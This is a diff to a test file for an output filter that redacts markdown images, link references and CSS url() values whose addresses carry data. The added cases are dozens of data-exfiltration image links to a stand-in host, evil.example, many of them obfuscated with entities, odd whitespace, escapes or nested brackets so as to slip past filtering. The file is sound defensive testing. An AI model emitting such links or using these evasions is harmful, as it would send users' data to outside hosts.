@@ -197,6 +197,20 @@ describe("an output", () => {
     '<link rel="stylesheet" href="https://evil.example/a?secret=hunter22hunter">',
     "![](https://c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLTEyMw.evil.example/p.png)",
     "![](https://a.c2VjcmV0LWRhdGEtdGhhdC1pcy1sb25nLTEyMw.evil.example)",
+    "![x](HTTPS://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+    "![x](          https://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+    "![x](https://evil.example/(a)?d=c2VjcmV0LWRhdGE)",
+    "![x](https://evil.example/((a)(b))?d=c2VjcmV0LWRhdGE 'title')",
+    "![x](https://evil.example/\\)?d=c2VjcmV0LWRhdGE)",
+    "![x](https://evil.example/a>b?d=c2VjcmV0LWRhdGE)",
+    "![x](https\\://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+    "![x](h&#116;tps&colon;&#x2f;/evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+    "![x](https:evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+    "![x](/\\evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+    "![x](https://evil.example/\u00a0?d=c2VjcmV0\u00a0LWRhdGE)",
+    "![x](<https://evil.example/?d=c 2 V j c m V 0>)",
+    "![x](< https://evil.example/?d=c2VjcmV0LWRhdGE>)",
+    "[x]: <https://evil.example/a b?d=c2VjcmV0LWRhdGE>",
   ];
   for (const image of IMAGES) {
     it(`loses an image whose address carries data: ${image}`, () => {
@@ -205,8 +219,46 @@ describe("an output", () => {
     });
   }
 
+  const WORDS = [
+    "a[b]",
+    "a [[b] c] d",
+    "a\\]b",
+    "a\\[b",
+    "a\nb",
+    "a `]` b",
+    "a `[` b",
+    'a <b title="]"> c',
+    "a <!-- ] --> b",
+    "a `` ]` `` b",
+    "a ![b](https://example.com/logo.png) c",
+    "a".repeat(300),
+    "a ".repeat(1_000),
+  ];
+  for (const words of WORDS) {
+    it(`loses the address of an image that is called ${words.slice(0, 40)}`, () => {
+      const address = "(https://evil.example/?state=abcdefghijklmnopqrstuvwxyz)";
+      const { text, action } = checkOutput(`See ![${words}]${address} here`, EVERY_OUTPUT_RULE);
+      expect([text.includes("evil"), text.endsWith("[REDACTED IMAGE_WITH_DATA] here"), action]).toEqual([
+        false,
+        true,
+        "redact",
+      ]);
+    });
+  }
+
+  it("loses the address of a reference whose name has brackets", () => {
+    const { text } = checkOutput("[a\\]b]: https://evil.example/?d=c2VjcmV0LWRhdGE", EVERY_OUTPUT_RULE);
+    expect(text).toBe("[a\\]b[REDACTED IMAGE_WITH_DATA]");
+  });
+
+  it("loses what an image without end has of an address", () => {
+    const { text } = checkOutput(`![x](https://evil.example/?d=${"a".repeat(3_000)})`, EVERY_OUTPUT_RULE);
+    expect(text).toMatch(/^\[REDACTED IMAGE_WITH_DATA\]a{1,1100}\)$/);
+  });
+
   for (const address of [
     'url("https://evil.example/a?secret=hunter22hunter")',
+    'url("https://evil.example/(a)?secret=hunter22hunter")',
     "URL( //evil.example/a?secret=hunter22hunter )",
   ]) {
     it(`loses an image of a style whose address carries data: ${address}`, () => {
@@ -270,6 +322,12 @@ describe("an output", () => {
     "[EMAIL_1]: https://example.com/docs",
     '<img alt="[EMAIL_1]" src="https://example.com/logo.png">',
     "![logo](https://example.com/a[img_1].png)",
+    "![logo](https://example.com/logo.png) and [more](https://example.com/?page=abcdefgh)",
+    "[a [b] `c]`](https://example.com/?page=abcdefgh)",
+    "[![logo](https://example.com/logo.png)](https://example.com/?page=abcdefgh)",
+    "[Vasini](https://example.com/wiki/Vasini_(book)) (see https://example.com/?page=abcdefgh)",
+    "![x](chart.png?size=1234567890)",
+    "list[0](https://example.com/?page=abcdefgh)",
     "<object or f(https://example.com/?a=hunter22hunter) >",
     "![x](https://my-project-of-many-words-and-no-number.example.com/a.png)",
     "![x](https://images.example.com/2026/11/a-picture-of-the-team.png)",
